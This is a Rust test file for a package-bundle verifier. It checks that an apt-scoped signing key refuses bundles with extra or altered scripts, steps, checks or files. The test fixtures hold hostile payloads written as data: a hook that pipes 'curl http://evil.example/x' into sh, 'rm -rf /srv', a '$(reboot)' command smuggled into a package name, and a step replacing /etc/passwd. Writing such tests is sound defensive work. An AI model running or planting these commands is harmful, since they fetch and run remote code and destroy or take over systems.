//! Issue 24: a key trusted only for apt bundles (`scope = "apt"`) verifies bundles of the
//! shape `bundle from-apt` makes, and nothing else: a bundle it signs that carries any other
//! script, step, check or file is refused at verify, with a message naming the key and the
//! reason. The same bundles signed by an unscoped key verify (the refusal is the scope's).

mod common;

use std::path::{Path, PathBuf};

use common::{Key, chain, signed_bundle};
use patchover_bundle::aptshape::{SPACE_FILE, SPACE_SCRIPT, install_script};
use patchover_bundle::keys::SCOPED_KEY_SUFFIX;
use patchover_bundle::{
    KeyScope, Limits, ScopedKey, TrustedKey, TrustedKeys, VerifyError, verify_bundle,
};

const DEB_A: &str = "po-a_1.0-2_all.deb";
const DEB_B: &str = "po-b_1.0-2_all.deb";

/// A manifest of from-apt's shape: the space check, one dpkg step, the install script of
/// two packages configured together; then `extra_steps` and `extra_checks`.
fn apt_manifest(extra_steps: &str, extra_checks: &str) -> String {
    common::manifest(
        "apt-0123456789ab",
        &format!(
            "[[step]]\nkind = \"script\"\nfile = \"{SPACE_FILE}\"\nargs = [\"100\"]\n\n[[step]]\nkind = \"dpkg\"\nfile = \"{DEB_A}\"\n\n[[step]]\nkind = \"script\"\nfile = \"install-3.sh\"\n{extra_steps}"
        ),
        &format!(
            "[[check]]\nkind = \"package_version\"\npackage = \"po-a\"\nversion = \"1.0-2\"\n{extra_checks}"
        ),
    )
}

/// Payload files: (path, content, mode).
type Files = Vec<(&'static str, Vec<u8>, u32)>;

fn apt_files(install: String) -> Files {
    vec![
        (SPACE_FILE, SPACE_SCRIPT.as_bytes().to_vec(), 0o755),
        (DEB_A, b"!<arch>\n".to_vec(), 0o644),
        (DEB_B, b"!<arch>\n".to_vec(), 0o644),
        ("po-c_1.0-2_all.deb", b"!<arch>\n".to_vec(), 0o644),
        ("install-3.sh", install.into_bytes(), 0o755),
    ]
}

fn good_install() -> String {
    install_script(&[DEB_B, "po-c_1.0-2_all.deb"])
}

fn make(
    dir: &Path,
    name: &str,
    manifest: &str,
    files: &[(&str, Vec<u8>, u32)],
    key: &Key,
) -> PathBuf {
    let files: Vec<(&str, &[u8], u32)> = files
        .iter()
        .map(|(p, d, m)| (*p, d.as_slice(), *m))
        .collect();
    signed_bundle(dir, name, manifest, &files, key)
}

fn apt_scoped(key: &Key) -> TrustedKeys {
    TrustedKeys::from_config(
        &[],
        &[ScopedKey {
            path: key.public.clone(),
            scope: KeyScope::Apt,
        }],
    )
    .unwrap()
}

#[test]
fn an_apt_scoped_key_verifies_only_bundles_of_from_apts_shape() {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let key = Key::new(d, "apt");
    let scoped = apt_scoped(&key);
    let limits = Limits::default();

    let good = make(
        d,
        "good.tar.zst",
        &apt_manifest("", ""),
        &apt_files(good_install()),
        &key,
    );
    let v = verify_bundle(&good, &scoped, &limits).unwrap();
    assert_eq!(v.signature().scope, Some(KeyScope::Apt));

    // Each of these is refused when the apt-scoped key signed it, and verifies with the same
    // key trusted for every bundle.
    let hook = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
    let cases: Vec<(&str, String, Files, &str)> = vec![
        (
            "an extra script step",
            apt_manifest("\n[[step]]\nkind = \"script\"\nfile = \"hook.sh\"\n", ""),
            [
                apt_files(good_install()),
                vec![("hook.sh", hook.as_bytes().to_vec(), 0o755)],
            ]
            .concat(),
            "step 4 is `script hook.sh`",
        ),
        (
            "a changed space check",
            apt_manifest("", ""),
            {
                let mut f = apt_files(good_install());
                f[0].1 = format!("{SPACE_SCRIPT}rm -rf /srv\n").into_bytes();
                f
            },
            "payload/check-space.sh is not the script from-apt writes",
        ),
        (
            "an install script that runs more than dpkg",
            apt_manifest("", ""),
            apt_files(format!("{}touch /etc/owned\n", good_install())),
            "payload/install-3.sh is not the script from-apt writes",
        ),
        (
            "an install script with a shell word in a package name",
            apt_manifest("", ""),
            apt_files(good_install().replace("'po-c_1.0-2_all.deb'", "'$(reboot).deb'")),
            "payload/install-3.sh is not the script from-apt writes",
        ),
        (
            "a replace step",
            apt_manifest(
                "\n[[step]]\nkind = \"replace\"\npath = \"/etc/passwd\"\nfile = \"hook.sh\"\nold_sha256 = \"absent\"\n",
                "",
            ),
            [
                apt_files(good_install()),
                vec![("hook.sh", hook.as_bytes().to_vec(), 0o644)],
            ]
            .concat(),
            "step 4 is `replace /etc/passwd with hook.sh`",
        ),
        (
            "a command check",
            apt_manifest(
                "",
                "\n[[check]]\nkind = \"command_output\"\ncommand = [\"/bin/sh\", \"-c\", \"id\"]\ncontains = \"\"\n",
            ),
            apt_files(good_install()),
            "it has a command_output check",
        ),
        (
            "a file no step uses",
            apt_manifest("", ""),
            [
                apt_files(good_install()),
                vec![("extra.sh", hook.as_bytes().to_vec(), 0o755)],
            ]
            .concat(),
            "it carries payload/extra.sh",
        ),
    ];
    let unscoped = key.trusted();
    for (i, (what, manifest, files, why)) in cases.iter().enumerate() {
        let b = make(d, &format!("bad-{i}.tar.zst"), manifest, files, &key);
        let e = verify_bundle(&b, &scoped, &limits).unwrap_err();
        let msg = chain(&e);
        assert!(matches!(e, VerifyError::Scope { .. }), "{what}: {msg}");
        assert!(msg.contains(why), "{what}: {msg}");
        assert!(
            msg.contains(&key.signing.id().to_string())
                && msg.contains("trusted only for apt bundles")
                && msg.contains("[bundles] trusted_keys"),
            "{what}: {msg}"
        );
        verify_bundle(&b, &unscoped, &limits).unwrap_or_else(|e| panic!("{what}: {}", chain(&e)));
    }
}

/// The agent reads its keys from a directory the host staged: a `*.apt.pub` key keeps its
/// scope there, so the agent refuses the same bundles.
#[test]
fn a_scoped_key_keeps_its_scope_in_a_key_directory() {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let key = Key::new(d, "apt");
    let full = Key::new(d, "release");
    let keys = d.join("keys");
    std::fs::create_dir(&keys).unwrap();
    std::fs::copy(&key.public, keys.join(format!("key-s0{SCOPED_KEY_SUFFIX}"))).unwrap();
    std::fs::copy(&full.public, keys.join("key-0.pub")).unwrap();
    let from_dir = TrustedKeys::from_dir(&keys).unwrap();
    let scopes: Vec<Option<KeyScope>> = from_dir.keys().iter().map(TrustedKey::scope).collect();
    assert_eq!(scopes, [None, Some(KeyScope::Apt)]);
    let m = apt_manifest("\n[[step]]\nkind = \"script\"\nfile = \"hook.sh\"\n", "");
    let files = [
        apt_files(good_install()),
        vec![("hook.sh", b"true\n".to_vec(), 0o755)],
    ]
    .concat();
    let by_apt = make(d, "a.tar.zst", &m, &files, &key);
    let e = verify_bundle(&by_apt, &from_dir, &Limits::default()).unwrap_err();
    assert!(matches!(e, VerifyError::Scope { .. }), "{}", chain(&e));
    let by_release = make(d, "r.tar.zst", &m, &files, &full);
    verify_bundle(&by_release, &from_dir, &Limits::default()).unwrap();
}
